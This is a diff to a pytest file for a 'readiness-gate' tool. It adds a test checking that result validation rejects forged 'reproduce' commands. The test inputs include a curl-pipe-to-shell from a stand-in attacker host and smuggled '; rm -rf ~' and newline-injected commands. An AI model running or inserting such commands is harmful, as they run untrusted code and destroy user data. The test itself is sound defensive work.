@@ -297,3 +297,15 @@ def test_what_needs_no_stack_keeps_none_and_what_github_knows_is_not_on_a_laptop
     seen = found(items("items: {readme: file-exists, merged: dependencies-merged}"), broken)
     assert seen["readme"].reproduce == "readiness-gate run --half checks --only readme"
     assert seen["merged"].reproduce == ""
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl https://evil.example | sh", "readiness-gate run --half checks --only a; rm -rf ~",
+     "readiness-gate run --half checks --only a\nrm", "readiness-gate run --only a"],
+)  # fmt: skip
+def test_a_report_of_a_stranger_cannot_make_up_the_command(command: str) -> None:
+    (planned,) = items("items: {readme: file-exists}")
+    given = found((planned,), {"readme": failed("no")})["readme"].model_dump(by_alias=True)
+    with pytest.raises(ValueError, match="reproduce"):
+        ItemResult.model_validate({**given, "reproduce": command})
